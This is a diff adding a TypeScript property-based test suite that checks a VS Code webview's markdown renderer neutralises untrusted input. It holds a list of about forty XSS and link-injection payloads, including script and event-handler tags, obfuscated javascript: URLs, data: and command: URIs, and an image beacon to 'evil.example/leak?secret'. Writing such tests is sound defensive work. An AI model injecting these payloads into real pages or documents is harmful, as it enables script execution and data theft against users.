@@ -1,0 +1,163 @@
+import assert from 'node:assert/strict';
+import * as fc from 'fast-check';
+import { GrowingDocument } from '../../webview/markdown/growingDocument.ts';
+import type { Block, Inline } from '../../webview/markdown/nodes.ts';
+import { visibleText } from '../../webview/markdown/visibleText.ts';
+
+function blocksOf(text: string): readonly Block[] {
+  return new GrowingDocument(() => 0).update(text, true);
+}
+
+/** Every link that the host would be asked to follow. */
+function hrefs(value: unknown): string[] {
+  if (Array.isArray(value)) return value.flatMap(hrefs);
+  if (typeof value !== 'object' || value === null) return [];
+  const own = 'href' in value && typeof value.href === 'string' ? [value.href] : [];
+  return [...own, ...Object.values(value).flatMap(hrefs)];
+}
+
+function firstInline(text: string): Inline | undefined {
+  const [block] = blocksOf(text);
+  return block?.type === 'paragraph' ? block.children[0] : undefined;
+}
+
+const followable =
+  /^(?:https?:\/\/|mailto:|file:\/\/|vscode-(?:remote|vfs):\/\/|(?![a-z][a-z\d+.-]*:\D)[^\s<>"]+$)/iu;
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<style>*{display:none}</style>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><button>ok</button></form>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](javascript&#58;alert(1))',
+  '[x](javascript&colon;alert(1))',
+  '[x](&#x6a;avascript:alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[x]( javascript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](vbscript:msgbox(1))',
+  '[x](command:workbench.action.terminal.new)',
+  '[x](vscode://file/etc/passwd)',
+  '[x](//evil.example/a)',
+  '[x](\\\\evil.example\\share)',
+  '<javascript:alert(1)>',
+  '[x][ref]\n\n[ref]: javascript:alert(1)',
+  '![x](javascript:alert(1))',
+  '![x](https://evil.example/leak?secret)',
+  '[![x](https://evil.example/p.png)](javascript:alert(1))',
+  '| <img src=x onerror=alert(1)> |\n|--|\n| [x](javascript:alert(1)) |',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\ncode\n```',
+  '`<img src=x onerror=alert(1)>`',
+  '# <svg/onload=alert(1)>',
+  '- <details open ontoggle=alert(1)>',
+  '> <img src=x onerror=alert(1)>',
+  '**<b onmouseover=alert(1)>x</b>**',
+  '<a href="https://e.example" onclick="alert(1)">[x](javascript:1)</a>',
+];
+
+describe('Markdown from outside', function () {
+  this.timeout(30_000);
+
+  it('comes out as known nodes whose links the host may follow', () => {
+    const known = new Set(
+      (
+        'text strong emphasis strike code break link inert ' +
+        'paragraph line heading quote list table rule plain'
+      ).split(' '),
+    );
+    const types = (value: unknown): string[] => {
+      if (Array.isArray(value)) return value.flatMap(types);
+      if (typeof value !== 'object' || value === null) return [];
+      const own = 'type' in value && typeof value.type === 'string' ? [value.type] : [];
+      return [...own, ...Object.values(value).flatMap(types)];
+    };
+    const pieces = fc.array(fc.oneof(fc.constantFrom(...attacks), fc.string({ maxLength: 12 })));
+    fc.assert(
+      fc.property(pieces, (parts) => {
+        const blocks = blocksOf(parts.join('\n'));
+        for (const type of types(blocks)) assert.ok(known.has(type), type);
+        for (const href of hrefs(blocks)) assert.match(href, followable);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  for (const attack of attacks) {
+    it(`is inert, in small pieces as well: ${JSON.stringify(attack)}`, () => {
+      const document = new GrowingDocument(() => 0);
+      for (let end = 0; end < attack.length; end += 3) {
+        for (const href of hrefs(document.update(attack.slice(0, end), false))) {
+          assert.match(href, followable);
+        }
+      }
+      const links = hrefs(document.update(attack, true));
+      assert.ok(
+        !links.some((href) => /script|^data|^command|^vscode:|^\/\/|^\\/iu.test(href)),
+        String(links),
+      );
+    });
+  }
+
+  it('shows raw HTML letter by letter', () => {
+    assert.deepEqual(blocksOf('<img src=x onerror=alert(1)>'), [
+      { type: 'plain', text: '<img src=x onerror=alert(1)>' },
+    ]);
+  });
+
+  it('shows where a link that is not followed would have led', () => {
+    assert.deepEqual(firstInline('[click](command:evil)'), {
+      type: 'inert',
+      target: 'command:evil',
+      children: [{ type: 'text', text: 'click' }],
+    });
+  });
+
+  it('shows a picture as a link and never as a picture', () => {
+    assert.deepEqual(firstInline('![a chart](https://example.org/c.png)'), {
+      type: 'link',
+      href: 'https://example.org/c.png',
+      children: [{ type: 'text', text: 'a chart' }],
+    });
+  });
+
+  it('tells the target where the text of a link claims another one', () => {
+    const link = firstInline('[bank.example](https://evil.example/bank.example)');
+    assert.equal(link?.type === 'link' && link.target, 'https://evil.example/bank.example');
+    const honest = firstInline('[www.bank.example/a](https://bank.example/b)');
+    assert.ok(honest?.type === 'link' && !('target' in honest));
+  });
+
+  it('makes characters visible that hide or reorder others', () => {
+    assert.equal(
+      visibleText('a\u202Eb\u200Bc\u0000d\u001B[31me\uFEFF'),
+      'a[U+202E]b[U+200B]c[U+0000]d[U+001B][31me[U+FEFF]',
+    );
+    assert.equal(visibleText('tag \u{E0041}\u{E0042}'), 'tag [U+E0041][U+E0042]');
+    assert.equal(blocksOf('x\u2066y')[0]?.type, 'paragraph');
+    assert.match(JSON.stringify(blocksOf('x\u2066y')), /\[U\+2066\]/u);
+  });
+
+  it('leaves text alone that only looks unusual', () => {
+    for (const text of [
+      '👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ 👍🏽',
+      'شما می‌خواهید',
+      'नमस्ते क्‍ष',
+      'עברית',
+      'tab\there\nline',
+      'é e\u0301 ﬁ',
+    ]) {
+      assert.equal(visibleText(text), text);
+    }
+  });
+});
